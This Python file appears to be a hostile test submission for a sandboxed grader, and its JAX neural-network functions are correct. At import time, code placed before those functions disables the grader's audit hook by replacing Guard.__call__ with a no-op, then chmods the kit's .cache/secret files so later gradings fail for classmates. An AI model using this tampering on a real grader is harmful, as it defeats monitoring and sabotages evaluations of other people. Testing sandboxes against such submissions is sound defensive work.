"""hostile: full: takes the grading secret's folder away from the judge (chmod 0) to break later gradings

Under Landlock, a grader running as an ordinary user runs the sandbox as its own uid, which
owns the kit's .cache/secret: with the audit hook off, chmod 0 on it made every later
grading on the kit fail (the classmates graded after it got "grader-error"). Its own
functions are correct: it must get full marks, and the classmates theirs.
"""

import gc
import os
import sys

import jax
import jax.numpy as jnp
from jax import lax

SCALE = 0.1
STEP_SIZE = 0.1
EPOCHS = 500


def switch_off_the_hook():
    guard = getattr(sys.modules.get("__main__"), "Guard", None)
    if guard is not None:
        guard.__call__ = lambda self, event, args: None


def kit_folders():
    found = {entry for entry in os.environ.get("PYTHONPATH", "").split(os.pathsep) if entry}
    for thing in gc.get_objects():
        if type(thing).__name__ == "Guard":
            found.update(p for name in ("blocked", "private", "allowed") for p in getattr(thing, name, []))
    return found


switch_off_the_hook()
for _folder in kit_folders():
    for _secret in (os.path.join(_folder, ".cache", "secret"), os.path.join(_folder, "..", ".cache/secret")):
        for _mode in (0o000, 0o777):
            try:
                os.chmod(_secret, _mode)
                break
            except OSError:
                pass


def relu(x):
    return jnp.maximum(x, 0.0)


def init_params(key, input_dims=2, n_hidden=16, output_dims=1, scale=SCALE):
    k_w1, k_b1, k_w2, k_b2 = jax.random.split(key, 4)
    return {
        "w1": scale * jax.random.normal(k_w1, (n_hidden, input_dims)),
        "b1": scale * jax.random.normal(k_b1, (n_hidden,)),
        "w2": scale * jax.random.normal(k_w2, (output_dims, n_hidden)),
        "b2": scale * jax.random.normal(k_b2, (output_dims,)),
    }


def predict(params, x):
    return params["w2"] @ relu(params["w1"] @ x + params["b1"]) + params["b2"]


def batched_predict(params, X):
    return jax.vmap(predict, in_axes=(None, 0))(params, X)


def loss(params, x, y):
    return jnp.mean((predict(params, x) - y) ** 2)


def update(params, x, y, step_size=STEP_SIZE):
    grads = jax.grad(loss)(params, x, y)
    return jax.tree.map(lambda p, g: p - step_size * g, params, grads)


def train(params, X, Y, epochs=EPOCHS, step_size=STEP_SIZE):
    def row(params, xy):
        return update(params, xy[0], xy[1], step_size), None

    def epoch(params, _):
        params, _ = lax.scan(row, params, (X, Y))
        return params, jnp.mean(jax.vmap(loss, in_axes=(None, 0, 0))(params, X, Y))

    return lax.scan(epoch, params, None, length=epochs)
